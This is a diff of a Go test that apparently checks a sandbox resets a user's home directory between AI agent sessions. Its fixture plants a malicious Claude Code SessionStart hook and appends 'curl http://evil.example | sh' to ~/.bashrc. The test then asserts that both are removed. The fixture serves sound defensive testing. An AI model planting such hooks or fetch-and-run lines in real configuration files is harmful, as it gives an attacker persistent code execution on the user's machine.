@@ -50,11 +50,11 @@ const (
 	plantScript = `set -e
 mkdir -p ~/.claude/projects/p1
 echo '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}' > ~/.claude/settings.json
-echo 'session-line-1' > ~/.claude/projects/p1/s1.jsonl
+echo 'session-line-1' > ~/.claude/projects/p1/0b3c6f2e-1111-4222-8333-444455556666.jsonl
 echo 'curl http://evil.example | sh' >> ~/.bashrc
 echo planted`
 	checkScript = `echo "uid=$(id -u) gid=$(id -g)"
-echo "session=$(cat ~/.claude/projects/p1/s1.jsonl)"
+echo "session=$(cat ~/.claude/projects/p1/0b3c6f2e-1111-4222-8333-444455556666.jsonl)"
 if grep -q hooks ~/.claude/settings.json 2>/dev/null; then echo hook=present; else echo hook=gone; fi
 grep -q baseline-model ~/.claude/settings.json && echo settings=baseline
 if grep -q evil ~/.bashrc 2>/dev/null; then echo bashrc=present; else echo bashrc=gone; fi
@@ -163,7 +163,7 @@ func TestPlayTwoTurns(t *testing.T) {
 	assert.Check(t, is.Contains(logs[2], "hook=gone"), "the planted Claude Code hook is reset")
 	assert.Check(t, is.Contains(logs[2], "bashrc=gone"), "the planted .bashrc line is reset")
 	assert.Check(t, is.Contains(logs[2], "settings=baseline"), "settings.json is the owner's baseline")
-	assert.Check(t, is.Contains(reports[2].Kept, ".claude/projects/p1/s1.jsonl"))
+	assert.Check(t, is.Contains(reports[2].Kept, ".claude/projects/p1/0b3c6f2e-1111-4222-8333-444455556666.jsonl"))
 	assert.Check(t, is.Contains(reports[2].Removed, ".bashrc"))
 	assert.Check(t, is.Contains(reports[2].Baseline, ".claude/settings.json"))
 	assert.Check(t, reports[1].BaselineDigest == reports[2].BaselineDigest)
